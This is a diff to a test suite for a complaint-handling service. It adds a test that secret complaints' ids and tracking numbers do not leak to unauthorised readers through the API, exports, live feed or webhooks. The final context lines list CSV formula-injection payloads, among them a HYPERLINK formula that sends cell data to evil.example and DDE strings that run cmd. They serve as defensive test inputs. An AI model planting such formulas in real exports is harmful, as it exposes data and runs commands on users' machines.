@@ -305,6 +305,46 @@ def test_a_merge_across_privacies_shows_no_reader_what_it_may_not_read(world):
     assert [m["complaint_id"] for m in operator["cluster"]] == [hidden.complaint_id]
 
 
+def test_no_reader_learns_the_id_of_a_complaint_it_may_not_see(world):
+    """A complaint names others: its cluster's head (``cluster_id``, also the stream's ``routed_cluster_id``),
+    the complaint it duplicates, its resends, a merge's target. An id gives away the tracking number (public
+    code), which opens the public status page. Unit B's public complaint, clustered by the stream under a
+    ``rahasia`` complaint of unit A and merged into it again by an operator: neither the analyst nor unit B
+    finds the secret one's id or number on any surface; the operator does (so the test can fail)."""
+    from consumers.read.access import Principal
+    from consumers.read.live import live_event
+
+    secret = complaint("rahasia")
+    public = complaint("publik", unit_code=UNIT_B, cluster_id=secret.complaint_id, duplicate_of=secret.complaint_id)
+    world.put(secret)
+    resend = make.duplicate(public.complaint_id)  # another sender's copy, folded in: not a document of its own
+    world.put(public, resend, make.correction(public.complaint_id, "merge", cluster_id=secret.complaint_id))
+    marker = public.text.split(":")[0].split()[-1]
+    surfaces = [f"/v1/complaints/{public.complaint_id}", f"/v1/complaints/{public.tracking_number}",
+                "/v1/search", "/v1/export.csv", "/v1/export.jsonl", "/v1/stats"]
+    needles = (secret.complaint_id, secret.tracking_number, resend.complaint_id)
+    for key in ("an", "ub"):
+        for path in surfaces:
+            answer = world.get(path, key, q=marker) if "/complaints/" not in path else world.get(path, key)
+            assert answer.status_code == 200, (key, path, answer.status_code)
+            assert public.tracking_number in answer.text or path == "/v1/stats", (key, path)  # it is served
+            assert not any(n in answer.text for n in needles), (key, path, answer.text[:400])
+    shown = world.get(f"/v1/complaints/{public.complaint_id}", "ub").json()
+    assert shown["cluster_id"] is None and shown["report_count"] >= 1
+    operator = world.get(f"/v1/complaints/{public.complaint_id}", "op").text
+    assert secret.complaint_id in operator
+    # The live feed and unit B's webhook have no index to ask: the head's id is dropped for non-operators.
+    record = json.loads(public.model_dump_json())
+    for principal in (Principal(role="analyst", name="an"), Principal(role="unit", name="ub", unit_code=UNIT_B)):
+        event = live_event(principal, record)
+        assert event is not None and not any(n in json.dumps(event) for n in needles), (principal, event)
+    assert secret.complaint_id in json.dumps(live_event(Principal(role="operator", name="op"), record))
+    own = Subscription(id="pu", unit_code=UNIT_B, url="https://b.example/h", secret_env="S", events=("*",))
+    event = to_event(ROUTED.name, public.model_dump_json().encode(), ComplaintDirectory())
+    body = payload(event, own, "d").decode()
+    assert public.complaint_id in body and secret.complaint_id not in body
+
+
 # -- injection: CSV formulas, script in text -------------------------------------------------------------------
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
